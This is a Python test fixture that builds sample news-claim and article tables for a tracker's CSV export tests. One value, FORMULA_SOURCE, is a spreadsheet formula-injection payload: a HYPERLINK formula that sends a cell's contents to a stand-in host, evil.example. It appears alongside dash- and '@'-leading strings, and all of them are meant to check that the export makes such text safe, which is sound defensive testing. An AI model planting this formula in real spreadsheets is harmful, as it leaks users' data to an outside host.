"""Small valid claims and article tables for the export tests, including hostile text.

The rows pass the claims schema (so the data package must validate), and two of them carry text
a spreadsheet would run as a formula: a source starting with ``=`` and a quote starting with ``-``.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

from tracker.export import write_table
from tracker.model import CLAIM_COLUMNS
from tracker.validate import articles_frame, claims_frame

FORMULA_SOURCE = '=HYPERLINK("http://evil.example/?x="&A1,"ministry")'
DASH_QUOTE = "-12 in the toll"


def claim(cid: str, article_id: str, metric: str, value: float, **kw: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "claim_id": cid,
        "article_id": article_id,
        "metric": metric,
        "value": value,
        "value_low": value,
        "value_high": value,
        "qualifier": "exact",
        "unit": "people",
        "subject": None,
        "location": "Gaza",
        "scope": "day",
        "period_start": dt.date(2024, 10, 14),
        "period_end": dt.date(2024, 10, 14),
        "source": "health ministry",
        "source_kind": "health_authority",
        "via": None,
        "modality": "reported",
        "quote": f"{value:g} people",
        "char_start": 0,
        "char_end": 10,
        "sentence": f"{value:g} people were {metric}, the ministry said.",
    }
    row.update(kw)
    return {c: row[c] for c in CLAIM_COLUMNS}


def claim_rows() -> list[dict[str, Any]]:
    return [
        claim("c1", "a1", "killed", 12.0, source=FORMULA_SOURCE),
        claim("c2", "a1", "injured", 30.0, quote=DASH_QUOTE),
        claim("c3", "a2", "displaced", 1500.0, qualifier="approximately", location="Lebanon",
              source="Lebanese officials", source_kind="government", scope="cumulative",
              period_start=dt.date(2023, 10, 8), period_end=dt.date(2024, 10, 15), subject="Lebanese"),
        claim("c4", "a2", "projectiles", 40.0, value_low=40.0, value_high=None, qualifier="more_than",
              unit="projectiles", source=None, source_kind="unattributed", scope="incident",
              period_start=None, period_end=None, location=None),
    ]


def article_rows() -> list[dict[str, Any]]:
    return [
        {"article_id": "a1", "title": "Strikes kill 12", "outlet": "Example Wire",
         "published": dt.date(2024, 10, 15), "url": "https://example.org/news/a1", "path": "raw/a1.md",
         "n_chars": 900},
        {"article_id": "a2", "title": "@ Thousands flee", "outlet": "Other Daily",
         "published": dt.date(2024, 10, 16), "url": "https://other.example/a2", "path": "raw/a2.md",
         "n_chars": 1200},
    ]


def write_tables(folder: Path, rows: list[dict[str, Any]] | None = None) -> Path:
    """claims.csv and articles.csv in ``folder``; returns the claims path."""
    claims = folder / "claims.csv"
    write_table(claims_frame(rows if rows is not None else claim_rows()), claims)
    write_table(articles_frame(article_rows()), folder / "articles.csv")
    return claims
